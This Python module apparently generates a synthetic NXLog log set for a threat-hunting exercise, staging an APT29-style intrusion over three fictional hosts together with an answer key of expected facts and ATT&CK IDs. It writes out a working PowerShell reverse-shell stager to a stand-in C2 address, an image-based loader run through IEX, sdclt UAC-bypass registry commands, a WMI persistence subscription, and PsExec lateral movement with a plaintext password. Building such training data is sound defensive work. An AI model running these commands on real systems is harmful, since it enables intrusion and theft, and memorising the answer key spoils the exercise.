"""A document that is a screen saver: shell, elevation, theft, a second host over PsExec, persistence. NXLog, three hosts.

After what is publicly known of the APT29 evaluation of 2020; names, addresses and times are made up.
"""

from __future__ import annotations

import base64
import random
from pathlib import Path

from ..making import Day, FactRow, Scenario, make_truth
from .layouts import nxlog
from .machine import CMD, PS, SYS32, SYSTEM_USER, Machine, digest
from .noise import administrator, collection, furnish, maintenance, ordinary

DAY = Day("2024-05-07")
USER, ADMIN = "NORTHLAKE\\j.okafor", "NORTHLAKE\\svc-deploy"
C2, DAV = "198.51.100.77", "198.51.100.78"
LURE = "C:\\ProgramData\\inbox\\quarterly_cod.3aka.scr"
STAGER = f"$c=New-Object System.Net.Sockets.TCPClient('{C2}',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}};while(($i=$s.Read($b,0,$b.Length)) -ne 0){{iex ([text.encoding]::ASCII.GetString($b,0,$i))}}"
HIDDEN = ("sal a New-Object;Add-Type -A System.Drawing;$g=a System.Drawing.Bitmap('C:\\Users\\j.okafor\\Downloads\\harbour.png');$o=a Byte[] 4480;"
          "(0..6)|%{foreach($x in(0..639)){$p=$g.GetPixel($x,$_);$o[$_*640+$x]=([math]::Floor(($p.B-band15)*16)-bor($p.G-band15))}};"
          "$g.Dispose();IEX([System.Text.Encoding]::ASCII.GetString($o[0..3932]))")  # fmt: skip


def _first_host(m: Machine) -> None:
    at = DAY.at
    lure = m.start(at("13:05:10"), LURE, f'"{LURE}" /S', m.procs["explorer"])
    m.loaded(at("13:05:10.4"), lure, LURE, signed=False)
    m.net(at("13:05:12"), lure, C2, 1234)
    cmd = m.start(at("13:05:20"), CMD, f'"{CMD}"', lure)
    shell = m.start(at("13:05:41"), PS, "powershell", cmd)
    for clock, line in (("13:06:02", "$env:TEMP;$env:username;$env:computername;$PID"), ("13:06:30", "Get-Process | Select-Object Name, Id"),
                        ("13:07:01", "Get-ChildItem $env:USERPROFILE -Recurse -Include *.doc,*.xps,*.xls,*.pdf -ErrorAction SilentlyContinue | Select -ExpandProperty FullName | Out-Null"),
                        ("13:07:20", "$files=Get-ChildItem -Path $env:USERPROFILE -Include *.doc,*.pdf -Recurse; Compress-Archive -LiteralPath $files.FullName -CompressionLevel Optimal -DestinationPath $env:APPDATA\\Draft.Zip -Force")):  # fmt: skip
        m.script(at(clock), line, shell)
    m.wrote(at("13:07:22"), shell, "C:\\Users\\j.okafor\\AppData\\Roaming\\Draft.Zip")
    m.wrote(at("13:09:00"), lure, "C:\\Users\\j.okafor\\Downloads\\harbour.png")
    for key, value in (
        ("", 'powershell.exe -noni -noexit -ep bypass -window hidden -c "' + HIDDEN[:120] + '"'),
        ("DelegateExecute", "(Empty)"),
    ):
        m.registry(
            at("13:10:02"),
            shell,
            f"HKU\\S-1-5-21-1004336348-1177238915-682003330-1104_Classes\\Folder\\shell\\open\\command\\{key or '(Default)'}",
            value,
        )
    m.script(
        at("13:10:01"),
        "New-Item -Path HKCU:\\Software\\Classes\\Folder\\shell\\open\\command -Force; Set-ItemProperty -Path HKCU:\\Software\\Classes\\Folder\\shell\\open\\command -Name '(Default)' -Value \"powershell.exe -noni -noexit -ep bypass -window hidden\" -Force",
        shell,
    )
    sdclt = m.start(at("13:10:20"), SYS32 + "sdclt.exe", f'"{SYS32}sdclt.exe"', shell, level="High")
    control = m.start(
        at("13:10:21"),
        SYS32 + "control.exe",
        f'"{SYS32}control.exe" /name Microsoft.BackupAndRestoreCenter',
        sdclt,
        level="High",
    )
    high = m.start(
        at("13:10:22"),
        PS,
        f'"PowerShell.exe" -noni -noexit -ep bypass -window hidden -c "{HIDDEN}"',
        control,
        level="High",
    )
    m.script(at("13:10:23"), HIDDEN, high)
    m.net(at("13:10:26"), high, C2, 443)
    m.script(at("13:11:10"), "Remove-Item -Path HKCU:\\Software\\Classes\\Folder* -Recurse -Force", high)
    for clock, exe, line in (("13:13:05", "whoami.exe", "whoami.exe /all"), ("13:13:40", "net.exe", "net.exe group \"Domain Admins\" /domain"),
                             ("13:14:00", "nltest.exe", "nltest.exe /dclist:northlake.test"), ("13:14:30", "tasklist.exe", "tasklist.exe /v")):  # fmt: skip
        m.run(at(clock), SYS32 + exe, f'"{SYS32}{exe}" {line.split(" ", 1)[1]}', high)
    m.wrote(at("13:15:10"), high, "C:\\Program Files\\SysinternalsSuite\\psexec64.exe")
    m.wrote(at("13:15:10.5"), high, "C:\\Program Files\\SysinternalsSuite\\sdelete64.exe")
    m.wrote(at("13:15:11"), high, "C:\\Windows\\System32\\javamtsup.exe")
    m.script(
        at("13:16:00"),
        'New-Service -Name "javamtsup" -BinaryPathName "C:\\Windows\\System32\\javamtsup.exe" -DisplayName "Java(TM) Virtual Machine Support Service" -StartupType Automatic',
        high,
    )
    m.service(
        at("13:16:01"), "Java(TM) Virtual Machine Support Service", "C:\\Windows\\System32\\javamtsup.exe", "auto start"
    )
    m.wrote(
        at("13:16:30"),
        high,
        "C:\\Users\\j.okafor\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\hostui.lnk",
    )
    delete = m.start(
        at("13:17:20"),
        "C:\\Program Files\\SysinternalsSuite\\sdelete64.exe",
        f'"C:\\Program Files\\SysinternalsSuite\\sdelete64.exe" /accepteula "{LURE}"',
        high,
    )
    m.deleted(at("13:17:22"), delete, LURE)
    m.stop(at("13:17:23"), delete)
    m.script(
        at("13:18:05"),
        "Invoke-ScreenCapture; Get-Clipboard; $sb = {Start-Job -Init ([ScriptBlock]::Create((Get-Content 'keylog.ps1'))) {GetAsyncKeyState}}",
        high,
    )
    net = m.start(at("13:19:30"), SYS32 + "net.exe", f'"{SYS32}net.exe" use y: \\\\{DAV}\\webdav /user:cozy', high)
    m.stop(at("13:19:33"), net)
    m.net(at("13:19:31"), m.procs["System"], DAV, 80)
    m.script(
        at("13:19:50"),
        'Compress-7Zip -Path "$env:USERPROFILE\\Downloads\\" -Filter * -Password "lolol" -ArchiveFileName "$env:APPDATA\\OfficeSupplies.7z"; Copy-Item "$env:APPDATA\\OfficeSupplies.7z" Y:\\OfficeSupplies.7z',
        high,
    )
    m.wrote(at("13:19:52"), high, "C:\\Users\\j.okafor\\AppData\\Roaming\\OfficeSupplies.7z")
    m.net(at("13:22:01"), high, "10.31.0.22", 5985)
    psexec = m.start(at("13:23:40"), "C:\\Program Files\\SysinternalsSuite\\psexec64.exe",
                     '"C:\\Program Files\\SysinternalsSuite\\psexec64.exe" -accepteula \\\\NLK-APP02 -u "NORTHLAKE\\svc-deploy" -p "Spring2024!" -i 5 C:\\Windows\\Temp\\python.exe', high)  # fmt: skip
    m.net(at("13:23:40.5"), psexec, "10.31.0.22", 445)
    m.stop(at("13:24:10"), psexec)


def _second_host(m: Machine) -> None:
    at = DAY.at
    m.logon(at("13:22:01"), ADMIN, 3, "10.31.0.21")
    wsm = m.start(
        at("13:22:02"), SYS32 + "wsmprovhost.exe", f"{SYS32}wsmprovhost.exe -Embedding", m.procs["dcom"], ADMIN, "High"
    )
    m.script(at("13:22:10"), "Get-Process", wsm)
    m.wrote(at("13:23:01"), m.procs["System"], "C:\\Windows\\Temp\\python.exe")
    for share in ("ADMIN$", "IPC$"):
        m.security(
            at("13:23:00"),
            5140,
            ADMIN,
            ObjectType="File",
            IpAddress="10.31.0.21",
            IpPort="50122",
            ShareName=f"\\\\*\\{share}",
            ShareLocalPath="\\??\\C:\\Windows",
            AccessMask="0x1",
        )
    m.logon(at("13:23:41"), ADMIN, 3, "10.31.0.21", package="NTLM")
    m.wrote(at("13:23:42"), m.procs["System"], "C:\\Windows\\PSEXESVC.exe")
    m.service(at("13:23:42.4"), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    svc = m.start(
        at("13:23:43"), "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", m.procs["services"], SYSTEM_USER
    )
    m.pipe(at("13:23:43.5"), svc, "\\PSEXESVC")
    py = m.start(at("13:23:44"), "C:\\Windows\\Temp\\python.exe", '"C:\\Windows\\Temp\\python.exe"', svc, ADMIN, "High")
    m.net(at("13:23:46"), py, C2, 8443)
    for n in range(5):
        m.net(at(f"13:{25 + n}:46"), py, C2, 8443)
    cmd = m.start(at("13:25:10"), CMD, '"cmd.exe" /c whoami', py)
    m.run(at("13:25:10.2"), SYS32 + "whoami.exe", "whoami", cmd)
    m.wrote(at("13:26:00"), py, "C:\\Windows\\Temp\\rar.exe")
    rar = m.start(
        at("13:26:20"),
        "C:\\Windows\\Temp\\rar.exe",
        "C:\\Windows\\Temp\\rar.exe a -hpfGzq5yKw C:\\Users\\svc-deploy\\Desktop\\working.zip C:\\Users\\svc-deploy\\Documents",
        py,
    )
    m.wrote(at("13:26:22"), rar, "C:\\Users\\svc-deploy\\Desktop\\working.zip")
    m.stop(at("13:26:25"), rar)
    m.subscription(
        at("13:28:10"),
        ADMIN,
        "WindowsParentalControlsMigration",
        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc "
        + base64.b64encode(STAGER.encode("utf-16-le")).decode(),
    )
    m.deleted(at("13:29:30"), py, "C:\\Windows\\Temp\\rar.exe")
    m.stop(at("13:30:02"), py)


def write(folder: Path) -> None:
    """Three hosts in one file, as a collector writes them."""
    dice = random.Random(2905)
    first = Machine("NLK-WS11", "10.31.0.21", "NORTHLAKE", "northlake.test")
    second = Machine("NLK-APP02", "10.31.0.22", "NORTHLAKE", "northlake.test")
    other = Machine("NLK-DC01", "10.31.0.5", "NORTHLAKE", "northlake.test")
    furnish(first, USER)
    furnish(second)
    furnish(other, server=True)
    for m, count in ((first, 700), (second, 420), (other, 420)):
        ordinary(m, DAY, dice, "12:30:00", "14:05:00", count)
    maintenance(other, DAY.at("13:12:00"))
    administrator(other, DAY.at("13:02:00"), "NORTHLAKE\\r.santos", "10.31.0.61")
    _first_host(first)
    _second_host(second)
    collection(first, DAY.at("13:48:00"), USER)
    (folder / "nxlog.json").write_text(nxlog(first, second, other), encoding="utf-8")


_FACTS: tuple[FactRow, ...] = (
    ("host", 2, ("nlk-ws11",)), ("host2", 3, ("nlk-app02",)), ("user", 2, ("j.okafor",)), ("admin", 2, ("svc-deploy",)),
    ("c2", 3, (C2,)), ("c2_port", 2, (f"{C2}:1234", f"{C2} & port 1234", f"{C2} & 1234")), ("lure", 3, ("quarterly_cod.3aka.scr",)),
    ("lure_exec", 3, ("quarterly_cod.3aka.scr & execut", "quarterly_cod.3aka.scr & explorer.exe", "quarterly_cod.3aka.scr & started")),
    ("lure_hash", 2, (digest(LURE, "sha256").lower(), digest(LURE, "sha1").lower(), digest(LURE, "md5").lower())),
    ("lure_c2", 2, (f"quarterly_cod.3aka.scr & {C2}",)), ("shell", 2, ("quarterly_cod.3aka.scr & cmd.exe",)),
    ("zip", 2, ("draft.zip",)), ("image", 1, ("harbour.png",)), ("uac", 3, ("sdclt.exe", "delegateexecute")),
    ("whoami", 1, ("whoami",)), ("groups", 1, ("domain admins",)), ("service", 3, ("javamtsup & service",)), ("startup", 3, ("hostui.lnk",)),
    ("sdelete", 2, ("sdelete64.exe",)), ("webdav", 2, (f"{DAV}", "net.exe & webdav")), ("psexec", 3, ("psexec64.exe", "psexesvc")),
    ("python", 3, ("python.exe & nlk-app02", "python.exe & psexesvc")), ("python_c2", 3, (f"python.exe & {C2}",)),
    ("lateral", 2, ("nlk-app02 & 10.31.0.21", "nlk-app02 & svc-deploy")), ("rar", 2, ("working.zip",)),
    ("wmi", 3, ("windowsparentalcontrolsmigration",)), ("rar_gone", 1, ("rar.exe & delet",)),
)  # fmt: skip

SCENARIO = Scenario(
    "screensaver", write,
    make_truth(
        "screensaver", _FACTS, "lure_exec shell zip uac service startup sdelete python rar wmi",
        "T1204.002 T1059.001 T1059.003 T1560.001 T1548.002 T1033 T1543.003 T1547.001 T1070.004 T1021.002 T1569.002 T1546.003 T1571",
        "T1036 T1036.002 T1027 T1027.003 T1083 T1057 T1082 T1016 T1069 T1069.002 T1087 T1018 T1482 T1113 T1115 T1056.001 T1021.006 T1078 T1078.002 "
        "T1048 T1041 T1105 T1112 T1005 T1071 T1071.001 T1564.003 T1570 T1140 T1547.009 T1007 T1095 T1573 T1047 T1134 T1053 T1132 T1620 T1564",
        ("2024-05-07T13:05:10Z", "2024-05-07T13:30:02Z"),
        ("GoogleUpdate.exe", "142.250.72.99", "healthservice.exe", "10.31.0.40", "r.santos", "NLK-DC01", "10.31.0.61", "msedge.exe", "collect.ps1"),
        ("netsh.exe", "wevtutil.exe"),
    ),
)  # fmt: skip
